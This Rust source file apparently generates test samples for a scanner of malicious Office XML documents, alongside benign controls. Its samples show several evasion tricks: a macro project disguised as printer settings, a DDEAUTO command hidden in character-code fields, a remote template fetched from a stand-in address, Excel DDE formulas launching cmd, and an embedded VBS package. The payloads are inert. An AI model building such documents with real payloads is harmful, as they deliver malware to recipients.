//! Office documents of XML: in one file, and in packages that are put together oddly.

use crate::Sample;
use crate::mark;
use crate::office::cfb::{Cfb, packaged};
use crate::office::macros;
use crate::office::ooxml::Package;
use crate::office::single_xml::{base64, excel_2003, field, instruction, paragraph, word_2003, zlib};

/// The samples.
pub(super) fn all() -> Vec<Sample> {
    [single_files(), honest()].into_iter().flatten().collect()
}

fn single_files() -> Vec<Sample> {
    vec![
        Sample {
            id: "xd1",
            file_name: "航空券控え.xml",
            about: "a dropper as Flat OPC, its macro project under a name and a type of something else",
            make: || {
                let project = macros::vba_project(&macros::ticket_project("xd1"));
                Package::docm("航空券控え", project.clone())
                    .part("word/vbaProject.bin", "", "")
                    .part("word/printerSettings1.bin", "application/octet-stream", project)
                    .relation(
                        "word/document.xml",
                        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                        "printerSettings1.bin",
                        false,
                    )
                    .flat()
            },
        },
        Sample {
            id: "xd2",
            file_name: "請求書.xml",
            about: "Word 2003 XML whose DDE command is kept in a SET field and in character codes, and a template from an address",
            make: || {
                let set = field(&format!(
                    "{}{}",
                    instruction("SET a "),
                    field(&instruction("QUOTE 104 97 114 109 108 101 115 115"))
                ));
                let dde = field(&format!(
                    "{}{}{}{}",
                    field(&instruction("QUOTE 68 68 69 65 85 84 79")),
                    instruction(" "),
                    field(&instruction("REF a")),
                    instruction("-none.exe \"/k x\"")
                ));
                word_2003(&format!(
                    "<w:docPr><w:attachedTemplate w:val=\"http://192.0.2.20/t.dot\"/></w:docPr><w:body><w:p>{set}</w:p>\
                     <w:p>{dde}</w:p></w:body>"
                ))
            },
        },
        Sample {
            id: "xd3",
            file_name: "集計.xml",
            about: "Excel 2003 XML with a linked book and a formula that start programs",
            make: || {
                excel_2003(
                    "<SupBook>\r\n<Path>cmd|/c harmless-none.exe</Path></SupBook>",
                    "<Row><Cell ss:Formula=\"=MSEXCEL|&apos;\\..\\harmless-none.exe /x&apos;!A1\"/></Row>",
                )
            },
        },
        Sample {
            id: "xd4",
            file_name: "納品書.xml",
            about: "Word 2003 XML whose compound file of objects holds a packed script",
            make: || {
                let script = format!("' {}\r\nWScript.Echo 1\r\n", mark("xd4"));
                let stream = packaged("納品書.vbs", r"C:\Users\taro\納品書.vbs", script.as_bytes());
                let object = Cfb::new().class("", PACKAGE).stream("\u{1}Ole10Native", stream).build();
                let size = u32::try_from(object.len()).unwrap_or_default().to_le_bytes();
                let data = Cfb::new().stream("_1577691300", [size.to_vec(), zlib(&object)].concat()).build();
                word_2003(&format!(
                    "<w:docOleData><w:binData w:name=\"oledata.mso\">{}</w:binData></w:docOleData><w:body>{}</w:body>",
                    base64(&data),
                    paragraph("納品書")
                ))
            },
        },
    ]
}

const PACKAGE: &str = "0003000C-0000-0000-C000-000000000046";

fn honest() -> Vec<Sample> {
    vec![
        Sample {
            id: "xh1",
            file_name: "議事録.xml",
            about: "a plain document as Flat OPC",
            make: || {
                Package::docx("議事録\n出席者：山田、佐藤")
                    .external("word/document.xml", "hyperlink", "https://example.com/minutes")
                    .flat()
            },
        },
        Sample {
            id: "xh2",
            file_name: "議事録.xml",
            about: "a plain Word 2003 XML document with page numbers, a link and a template of the writer's machine",
            make: || {
                word_2003(&format!(
                    "<w:docPr><w:attachedTemplate w:val=\"C:\\Users\\taro\\form.dot\"/></w:docPr><w:body>{}<w:p>{}</w:p>\
                     <w:hlink w:dest=\"https://example.com/\"/></w:body>",
                    paragraph("議事録"),
                    field(&instruction(" PAGE "))
                ))
            },
        },
        Sample {
            id: "xh3",
            file_name: "売上.xml",
            about: "a plain Excel 2003 XML workbook with formulas, a link to a book of the writer's machine and a bar in a text",
            make: || {
                excel_2003(
                    "<SupBook><Path>C:\\Users\\taro\\master.xls</Path></SupBook>",
                    "<Row><Cell ss:Formula=\"=SUM(R1C1:R3C1)\"><Data ss:Type=\"Number\">3</Data></Cell>\
                     <Cell><Data ss:Type=\"String\">a|b</Data></Cell></Row>",
                )
            },
        },
    ]
}
